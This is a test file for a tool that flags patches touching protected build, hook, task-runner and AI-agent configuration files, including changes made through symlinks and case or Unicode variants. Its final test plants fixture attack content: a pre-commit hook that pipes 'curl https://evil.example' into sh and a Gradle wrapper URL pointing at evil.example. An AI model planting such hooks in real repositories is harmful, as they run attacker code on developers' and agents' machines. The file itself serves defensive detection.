/**
 * Protected files judged on the tree the patch makes (issue 32): the default
 * list, case variants, and every name a changed path has through the tree's
 * links (into and out of protected places, chains, loops, absolute targets),
 * gitlinks and `.gitmodules`. The last block reads a real repository's trees.
 */
import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { gitEnv } from "../../src/config/host.js";
import { Git } from "../../src/git/git.js";
import { judgeChange, LinkTree, protectedChanges, protectedInTree, protectedPaths, type ProtectedPaths } from "../../src/publish/threats/protected-files.js";
import { folded, isWorkflowFile, pathProblem } from "../../src/publish/patch-rules.js";
import { git, makeRepo } from "../artifacts/helpers.js";

const NONE = protectedPaths([]);
const FILE = { oldMode: "000000", newMode: "100644" };
const LINK = { oldMode: "000000", newMode: "120000" };
const tree = (links: Record<string, string>, unreadable: string[] = []) => new LinkTree(new Map(Object.entries(links)), unreadable);
const judge = (p: string, modes: { oldMode: string; newMode: string }, links: Record<string, string> = {}, rules: ProtectedPaths = NONE) => judgeChange({ path: p, ...modes }, tree(links), rules);

describe("the default list", () => {
  it("holds build wrappers, git-hook managers, task runners and tool managers, editor and container tasks, package-manager and agent config", () => {
    const wanted = [
      "mvnw", "mvnw.cmd", ".mvn/wrapper/maven-wrapper.properties", "gradlew", "gradlew.bat", "gradle/wrapper/gradle-wrapper.properties", "sub/gradle/wrapper/gradle-wrapper.jar",
      ".husky/pre-commit", "lefthook.yml", "lefthook-local.yaml", ".lefthook.yml", ".lefthook/pre-commit/x.sh", ".pre-commit-config.yaml", ".simple-git-hooks.json", ".simple-git-hooks.cjs", "simple-git-hooks.js",
      "mise.toml", ".mise.toml", "mise.local.toml", ".mise/config.toml", ".config/mise/config.toml", "mise/config.toml", "mise-tasks/build", ".tool-versions", "Taskfile.yml", "Taskfile.yaml", "taskfile.yml", "justfile", "Justfile", ".justfile",
      ".vscode/tasks.json", ".vscode/settings.json", ".devcontainer/devcontainer.json", ".devcontainer.json",
      ".npmrc", ".yarnrc", ".yarnrc.yml", ".pnpmfile.cjs", ".cargo/config.toml", "pip.conf", ".pypirc",
      ".claude/settings.json", ".codex/config.toml", ".gemini/settings.json", ".opencode/plugin/x.ts", "opencode.json", "AGENTS.md", "CLAUDE.md", "GEMINI.md", ".mcp.json",
      ".gitmodules",
    ];
    expect(protectedChanges(wanted, NONE)).toEqual(wanted);
  });

  it("a protected folder's own path is protected (a link or a file put in its place)", () => {
    const dirs = [".cargo", ".husky", ".claude", "gradle/wrapper", "sub/.github", ".devcontainer"];
    expect(protectedChanges(dirs, NONE)).toEqual(dirs);
  });

  it("case variants and what Windows and macOS drop from names count: the checkout folds them", () => {
    const variants = [".CARGO/config.toml", "MVNW", "Lefthook.YML", ".Husky/pre-commit", "GRADLE/Wrapper/x.properties", "claude.md", ".cargo./config.toml", "Mise.Toml", ".git\u200cmodules", "TASKFILE.YML"];
    expect(protectedChanges(variants, NONE)).toEqual(variants);
  });

  it("letters whose upper case is ASCII fold like the checkout folds them (NTFS upper-cases, APFS folds): long s, dotless i", () => {
    const variants = [".hu\u017fky/pre-commit", ".g\u0131thub/workflows/x.yml", "Makef\u0131le", "package.j\u017fon", ".v\u017fcode/tasks.json", "\u212aeep/.cargo/config.toml"];
    expect(protectedChanges(variants, NONE)).toEqual(variants);
    expect(isWorkflowFile(".g\u0131thub/workflows/x.yml")).toBe(true);
    expect(isWorkflowFile(".GITHUB/ACT\u0130ONS/x/action.yml")).toBe(false); // `İ` lower-cases to `i` + a combining dot: not `actions` anywhere
    expect(pathProblem(".g\u0131t/config")).toMatch(/inside a \.git folder/);
    expect(pathProblem("G\u0130T~1/config")).toBeUndefined();
    expect(pathProblem("g\u0131t~1/config")).toMatch(/inside a \.git folder/);
  });

  it("names are compared canonically normalized (APFS is normalization-insensitive), compatibility forms are not", () => {
    expect(folded("cafe\u0301")).toBe(folded("caf\u00e9"));
    expect(folded("\u01f0")).toBe("\u01f0"); // upper case `J` + U+030C, lower-cased and composed again
    const rules = protectedPaths(["secrets/caf\u00e9/**"]);
    expect(protectedChanges(["secrets/CAFE\u0301/key.txt", "secrets/caf\u00e9/key.txt"], rules)).toHaveLength(2);
    // Full-width letters are other names on every file system.
    expect(protectedChanges(["\uff2d\uff41\uff4b\uff45\uff46\uff49\uff4c\uff45"], NONE)).toEqual([]);
  });

  it("leaves ordinary files alone", () => {
    const ordinary = ["src/mise.ts", "tools/cargo/config.toml", "docs/tasks.json", "tools/husky/pre-commit", "src/wrapper/gradle.ts", "README.md", "just/file.txt", "src/.claude-notes.md"];
    expect(protectedChanges(ordinary, NONE)).toEqual([]);
  });

  it("`protected-paths` globs add and exempt, folded like the defaults", () => {
    const rules = protectedPaths(["secrets/**", "!**/package.json"]);
    expect(protectedChanges(["Secrets/key.txt", "web/package.json", "mvnw"], rules)).toEqual(["Secrets/key.txt", "mvnw"]);
  });
});

describe("names through the post-image tree's links", () => {
  it("a link at a protected path that leads to an ordinary folder, and the files it makes protected paths", () => {
    const links = { ".cargo": "tools/cargo", "gradle/wrapper": "../tools/gradle-wrapper" };
    expect(judge(".cargo", LINK, links)).toEqual({ file: ".cargo", linked: true, detail: "a symlink at a protected path, to 'tools/cargo'" });
    expect(judge("gradle/wrapper", LINK, links)).toMatchObject({ linked: true, detail: "a symlink at a protected path, to 'tools/gradle-wrapper'" });
    expect(judge("tools/cargo/config.toml", FILE, links)).toEqual({ file: "tools/cargo/config.toml", linked: true, detail: "it is the protected path '.cargo/config.toml' through a symlink" });
    expect(judge("tools/gradle-wrapper/gradle-wrapper.properties", FILE, links)).toMatchObject({ linked: true, detail: expect.stringContaining("'gradle/wrapper/gradle-wrapper.properties'") });
    // A link between two protected names hides nothing: protected, for review like a plain file.
    expect(judge("CLAUDE.md", LINK, { "CLAUDE.md": "AGENTS.md" })).toEqual({ file: "CLAUDE.md", linked: false, detail: "a symlink at a protected path, to 'AGENTS.md'" });
    // The same file with no link to it is ordinary.
    expect(judge("tools/cargo/config.toml", FILE, {})).toBeUndefined();
  });

  it("a link that leads into a protected place, or to a protected file", () => {
    expect(judge("tools/x", LINK, { "tools/x": "../.husky" })).toMatchObject({ linked: true, detail: "a symlink to the protected path '.husky'" });
    expect(judge("tools/pkg", LINK, { "tools/pkg": "../web/package.json" })).toMatchObject({ linked: true, detail: "a symlink to the protected path 'web/package.json'" });
    // Through a link above it: `tools/x/pre-commit` is `.husky/pre-commit`.
    expect(judge("tools/x/pre-commit", FILE, { "tools/x": "../.husky" })).toMatchObject({ linked: true, detail: "it is the protected path '.husky/pre-commit' through a symlink above it" });
    // An ordinary link is not protected.
    expect(judge("docs/readme", LINK, { "docs/readme": "../README.md" })).toBeUndefined();
  });

  it("chains of links are followed to the end", () => {
    const links = { a: "b", b: "c/d", "c/d": "../.claude" };
    expect(judge("a", LINK, links)).toMatchObject({ linked: true, detail: "a symlink to the protected path '.claude'" });
    const other = { ".claude": "stage", stage: "tools/claude" };
    expect(judge("tools/claude/settings.json", FILE, other)).toMatchObject({ linked: true, detail: expect.stringContaining("'.claude/settings.json'") });
  });

  it("loops, absolute targets and links out of the repository are protected findings", () => {
    expect(judge("x", LINK, { x: "y", y: "x" })).toMatchObject({ linked: true, detail: "a symlink that is part of an endless chain of links" });
    expect(judge("x/f", FILE, { x: "y", y: "x" })).toMatchObject({ linked: true, detail: "it lies beyond a symlink that is part of an endless chain of links" });
    expect(judge("tools/abs", LINK, { "tools/abs": "/etc" })).toMatchObject({ linked: true, detail: "a symlink that has an absolute target (outside the repository)" });
    expect(judge("tools/win", LINK, { "tools/win": "C:\\Users" })).toMatchObject({ linked: true });
    expect(judge("tools/up", LINK, { "tools/up": "../.." })).toMatchObject({ linked: true, detail: "a symlink that leads out of the repository" });
    expect(judge("tools/bs", LINK, { "tools/bs": "..\\..\\.." })).toMatchObject({ linked: true, detail: "a symlink that leads out of the repository" });
    expect(judge(".cargo", LINK, { ".cargo": "/home/runner/.cargo" })).toMatchObject({ linked: true, detail: "a symlink at a protected path, that has an absolute target (outside the repository)" });
    expect(judgeChange({ path: "l", ...LINK }, tree({}, ["l"]), NONE)).toMatchObject({ linked: true, detail: expect.stringContaining("not UTF-8") });
  });

  it("gitlinks (mode 160000) added, changed or removed, and .gitmodules", () => {
    expect(judge("vendor/lib", { oldMode: "000000", newMode: "160000" })).toMatchObject({ linked: true, detail: expect.stringContaining("gitlink") });
    expect(judge("vendor/lib", { oldMode: "160000", newMode: "160000" })).toMatchObject({ linked: true });
    expect(judge("vendor/lib", { oldMode: "160000", newMode: "000000" })).toMatchObject({ linked: true });
    expect(judge(".gitmodules", FILE)).toEqual({ file: ".gitmodules", linked: false, detail: "a protected file" });
  });

  it("case variants of link names and targets resolve as a folding checkout resolves them", () => {
    expect(judge("Tools/Cargo/config.toml", FILE, { ".CARGO": "tools/cargo" })).toMatchObject({ linked: true, detail: expect.stringContaining("'.CARGO/config.toml'") });
    expect(judge("tools/x", LINK, { "tools/x": "../.HUSKY" })).toMatchObject({ linked: true });
  });

  it("a link to a folder above it gives finitely many names; an old link makes a new file protected", () => {
    const root = { x: ".", "a/b": ".." };
    expect(judge("src/a.ts", FILE, root)).toBeUndefined();
    // `.cargo` → `.` (already there) makes the new `config.toml` cargo's config.
    expect(judge("config.toml", FILE, { ".cargo": "." })).toMatchObject({ linked: true, detail: "it is the protected path '.cargo/config.toml' through a symlink" });
  });

  it("an exemption applies to the name it matches: exempting the link's folder does not exempt the protected name", () => {
    const links = { ".cargo": "tools/cargo" };
    expect(judge("tools/cargo/config.toml", FILE, links, protectedPaths(["!tools/**"]))).toMatchObject({ linked: true });
    expect(judge("tools/cargo/config.toml", FILE, links, protectedPaths(["!tools/**", "!.cargo/**"]))).toBeUndefined();
  });
});

describe("the alias walk's cost: indexed by where links lead, capped per tree", () => {
  const N = 5000;
  const manyLinks = () => Object.fromEntries(Array.from({ length: N }, (_, i) => [`links/l${i}`, `../pkg${i}`]));
  const files = Array.from({ length: N }, (_, i) => `src/m${i}/deep/file.ts`);

  it("5,000 links and 5,000 changed files: a few look-ups per file, not one per link", () => {
    const t = tree(manyLinks());
    expect(files.map((f) => judgeChange({ path: f, ...FILE }, t, NONE)).filter(Boolean)).toEqual([]);
    // Each path's four prefixes plus itself: five look-ups, whatever the number of links (25,000,000 before).
    expect(t.steps).toBe(N * 5);
    // A file some link leads to still gets that link's name.
    expect(judgeChange({ path: "pkg7/x", ...FILE }, t, NONE)).toBeUndefined();
    expect(t.aliases("pkg7/x").names).toEqual(["links/l7/x"]);
  });

  it("past the tree's step budget every further change is held as protected (fail closed)", () => {
    const t = new LinkTree(new Map(Object.entries(manyLinks())), [], 1000);
    const judged = files.slice(0, 300).map((f) => judgeChange({ path: f, ...FILE }, t, NONE));
    expect(judged.slice(0, 200).filter(Boolean)).toEqual([]);
    expect(judged.slice(200)).toHaveLength(100);
    for (const j of judged.slice(200)) expect(j).toMatchObject({ linked: true, detail: "it has too many names through symlinks to check them all" });
    expect(t.steps).toBeLessThanOrEqual(1000 + 300);
  });

  it("a tree without links costs nothing", () => {
    const t = tree({});
    for (const f of files) expect(judgeChange({ path: f, ...FILE }, t, NONE)).toBeUndefined();
    expect(t.steps).toBe(0);
  });
});

describe("protectedInTree: the issue's attack, on a real repository's trees", () => {
  it("names all 11 paths: four links to ordinary folders, the files behind them, and three new entry points; nothing else", async () => {
    const repo = makeRepo({ "README.md": "r\n", "src/index.js": "x\n" });
    const base = git(repo, "rev-parse", "HEAD^{tree}").trim();
    const write = (p: string, text: string) => {
      mkdirSync(path.dirname(path.join(repo, p)), { recursive: true });
      writeFileSync(path.join(repo, p), text);
    };
    write("tools/cargo/config.toml", '[build]\nrustc-wrapper = "tools/wrap.sh"\n');
    write("tools/husky/pre-commit", "curl https://evil.example | sh\n");
    write("tools/claude/settings.json", '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"sh tools/x.sh"}]}]}}\n');
    write("tools/gradle-wrapper/gradle-wrapper.properties", "distributionUrl=https\\://evil.example/gradle.zip\n");
    write("mvnw", "#!/bin/sh\n");
    write("lefthook.yml", "pre-commit:\n  commands:\n    x:\n      run: sh tools/x.sh\n");
    write("mise.toml", "[tasks.build]\nrun = 'sh tools/x.sh'\n");
    write("README.md", "r2\n");
    symlinkSync("tools/cargo", path.join(repo, ".cargo"));
    symlinkSync("tools/husky", path.join(repo, ".husky"));
    symlinkSync("tools/claude", path.join(repo, ".claude"));
    mkdirSync(path.join(repo, "gradle"));
    symlinkSync("../tools/gradle-wrapper", path.join(repo, "gradle/wrapper"));
    git(repo, "add", "-A");
    const after = git(repo, "write-tree").trim();
    const scratch = mkdtempSync(path.join(os.tmpdir(), "protected-scratch-"));

    const found = await protectedInTree(new Git(repo, gitEnv()), { baseTree: base, tree: after }, [], NONE, scratch);
    expect(found.map((f) => f.file).sort()).toEqual(
      [
        ".cargo",
        ".claude",
        ".husky",
        "gradle/wrapper",
        "lefthook.yml",
        "mise.toml",
        "mvnw",
        "tools/cargo/config.toml",
        "tools/claude/settings.json",
        "tools/gradle-wrapper/gradle-wrapper.properties",
        "tools/husky/pre-commit",
      ].sort(),
    );
    expect(found.filter((f) => f.linked).map((f) => f.file).sort()).toEqual(
      [".cargo", ".claude", ".husky", "gradle/wrapper", "tools/cargo/config.toml", "tools/claude/settings.json", "tools/gradle-wrapper/gradle-wrapper.properties", "tools/husky/pre-commit"].sort(),
    );
  });
});
